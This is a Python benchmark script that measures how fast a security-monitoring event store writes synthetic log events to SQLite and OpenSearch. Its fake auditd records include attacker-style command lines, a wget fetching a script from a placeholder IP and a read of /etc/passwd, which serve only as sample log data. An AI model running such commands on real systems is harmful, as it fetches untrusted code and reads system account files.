"""Bulk-write throughput of the event store, against the engine's raw `_bulk` ceiling.

    .venv/bin/python bench/store_ingest.py [--events 200000] [--batch 5000] [--opensearch-url URL]

Writes N synthetic ECS events (auth, web, process) through EventStore.write in batches, on SQLite
and on OpenSearch (a node is started unless --opensearch-url is given). The ceiling is the same
documents, ids and indices pre-serialised to NDJSON and posted straight to `_bulk` with httpx:
what the engine can take with no work on our side. Goals (issue 2): SQLite >= 50k events/s,
OpenSearch >= 0.8x the ceiling.
"""

from __future__ import annotations

import argparse
import random
import tempfile
import time
from collections.abc import Callable, Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import orjson

from soc import settings as settings_mod
from soc.store import prepare
from soc.store.base import EventStore
from soc.store.clients import connect
from soc.store.search import SearchStore
from soc.store.sqlite import SqliteStore

T0 = datetime(2026, 11, 27, tzinfo=UTC)
USERS = ["root", "admin", "deploy", "oracle", "nguyen.van.a", "tran.thi.b", "www-data", "postgres"]
PATHS = ["/", "/tin-tuc", "/dich-vu-cong/ho-so", "/login", "/api/v1/search?q=a", "/wp-login.php"]


def make_events(n: int, seed: int = 7) -> list[dict[str, Any]]:
    rnd = random.Random(seed)
    out: list[dict[str, Any]] = []
    for i in range(n):
        at = (T0 + timedelta(milliseconds=i * 37)).isoformat().replace("+00:00", "Z")
        ip = f"{rnd.randint(1, 223)}.{rnd.randint(0, 255)}.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}"
        host = {
            "name": f"srv{rnd.randint(1, 300):03d}.cantho.gov.vn",
            "ip": [f"10.20.{i % 250}.{i % 200 + 1}"],
        }
        log = {"file": {"path": "/var/log/x"}, "offset": i * 120}
        kind = i % 3
        if kind == 0:
            user = rnd.choice(USERS)
            msg = f"Failed password for {user} from {ip} port {rnd.randint(1024, 65535)} ssh2"
            doc = {
                "event": {"dataset": "system.auth", "category": ["authentication"], "outcome": "failure",
                          "action": "ssh_login", "original": msg},
                "user": {"name": user}, "source": {"ip": ip, "port": rnd.randint(1024, 65535)},
            }  # fmt: skip
        elif kind == 1:
            path = rnd.choice(PATHS)
            msg = f'{ip} - - "GET {path} HTTP/1.1" 200 512 "-" "Mozilla/5.0"'
            doc = {
                "event": {"dataset": "nginx.access", "category": ["web"], "original": msg},
                "source": {"ip": ip}, "url": {"original": path},
                "http": {"request": {"method": "GET"},
                         "response": {"status_code": rnd.choice([200, 404, 500])}},
                "user_agent": {"original": "Mozilla/5.0 (X11; Linux x86_64)"},
            }  # fmt: skip
        else:
            argv = rnd.choice(
                [["id"], ["uname", "-a"], ["wget", "http://198.51.100.7/x.sh"], ["cat", "/etc/passwd"]]
            )
            msg = " ".join(argv)
            doc = {
                "event": {"dataset": "auditd.log", "category": ["process"], "type": ["start"]},
                "process": {
                    "name": argv[0],
                    "args": argv,
                    "command_line": msg,
                    "pid": rnd.randint(100, 65000),
                },
                "user": {"name": "root"},
            }
        doc.update({"@timestamp": at, "message": msg, "host": host, "log": log})
        out.append(doc)
    return out


def timed_writes(store: EventStore, events: Sequence[dict[str, Any]], batch: int) -> float:
    began = time.perf_counter()
    for start in range(0, len(events), batch):
        result = store.write(events[start : start + batch], agency="bench")
        assert not result.errors, result.errors[:3]
    return time.perf_counter() - began


def raw_bulk_seconds(url: str, events: Sequence[dict[str, Any]], batch: int, prefix: str) -> float:
    """The ceiling: same documents and ids, serialised before the clock starts."""
    prep = prepare.Batch(agency="bench", ingested=datetime.now(UTC), prefix=prefix)
    bodies: list[bytes] = []
    for start in range(0, len(events), batch):
        lines = []
        for raw in events[start : start + batch]:
            p = prep.prepare(raw)
            assert isinstance(p, prepare.Prepared)
            lines.append(
                orjson.dumps({"create": {"_index": p.index, "_id": p.id}})
                + b"\n"
                + orjson.dumps(p.doc)
                + b"\n"
            )
        bodies.append(b"".join(lines))
    headers = {"Content-Type": "application/x-ndjson"}
    with httpx.Client(base_url=url, timeout=120, headers=headers) as client:
        began = time.perf_counter()
        for body in bodies:
            answer = client.post("/_bulk", content=body).json()
            assert not answer["errors"], str(answer)[:500]
        return time.perf_counter() - began


def report(name: str, n: int, seconds: float, extra: str = "") -> float:
    rate = n / seconds
    print(f"{name:<40} {n:>8} events {seconds:>8.2f} s {rate:>10,.0f} events/s {extra}")
    return rate


def main() -> None:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--events", type=int, default=200_000)
    parser.add_argument("--batch", type=int, default=5000)
    parser.add_argument("--opensearch-url", help="use this node instead of starting one")
    parser.add_argument("--skip-opensearch", action="store_true")
    args = parser.parse_args()
    events = make_events(args.events)
    print(f"{args.events} synthetic ECS events, batches of {args.batch}\n")

    with tempfile.TemporaryDirectory() as tmp:
        sqlite = SqliteStore(Path(tmp) / "events.db")
        sqlite.ensure_schema()
        rate = report("sqlite EventStore.write", args.events, timed_writes(sqlite, events, args.batch))
        print(f"{'':<40} goal >= 50,000 events/s: ratio {rate / 50_000:.2f}")
        sqlite.close()

    if args.skip_opensearch:
        return
    with_node(args.opensearch_url, lambda url: bench_engine(url, events, args.batch))


def bench_engine(url: str, events: Sequence[dict[str, Any]], batch: int, rounds: int = 2) -> None:
    """Alternate ceiling and ours, `rounds` times each, after a warm-up; report the best of each."""
    settings = settings_mod.load(environ={}, store="opensearch", store_url=url)
    warm = SearchStore(connect(settings), prefix="benchwarm")
    warm.ensure_schema()
    timed_writes(warm, events[:20_000], batch)
    drop(warm, "benchwarm")
    raw_best = ours_best = 0.0
    for n in range(rounds):
        raw_store = SearchStore(connect(settings), prefix=f"benchraw{n}")
        raw_store.ensure_schema()
        raw = report(
            f"opensearch raw _bulk, round {n + 1}",
            len(events),
            raw_bulk_seconds(url, events, batch, f"benchraw{n}"),
        )
        drop(raw_store, f"benchraw{n}")
        store = SearchStore(connect(settings), prefix=f"benchours{n}")
        store.ensure_schema()
        ours = report(
            f"opensearch EventStore.write, round {n + 1}", len(events), timed_writes(store, events, batch)
        )
        drop(store, f"benchours{n}")
        raw_best, ours_best = max(raw_best, raw), max(ours_best, ours)
    print(
        f"{'best of each':<34} ceiling {raw_best:,.0f}/s, ours {ours_best:,.0f}/s: "
        f"ratio {ours_best / raw_best:.2f} (goal >= 0.80)"
    )


def drop(store: SearchStore, prefix: str) -> None:
    for name in store.engine.indices(f"{prefix}-*"):
        store.engine.delete_index(name)
    store.close()


def with_node(url: str | None, job: Callable[[str], None]) -> None:
    if url:
        job(url)
        return
    from soc.engine.launcher import Node

    with tempfile.TemporaryDirectory() as home:
        node = Node.start(Path(home), heap_mb=1024)
        try:
            print(f"(OpenSearch node started in {node.start_seconds:.1f} s at {node.url})")
            job(node.url)
        finally:
            node.stop()


if __name__ == "__main__":
    main()
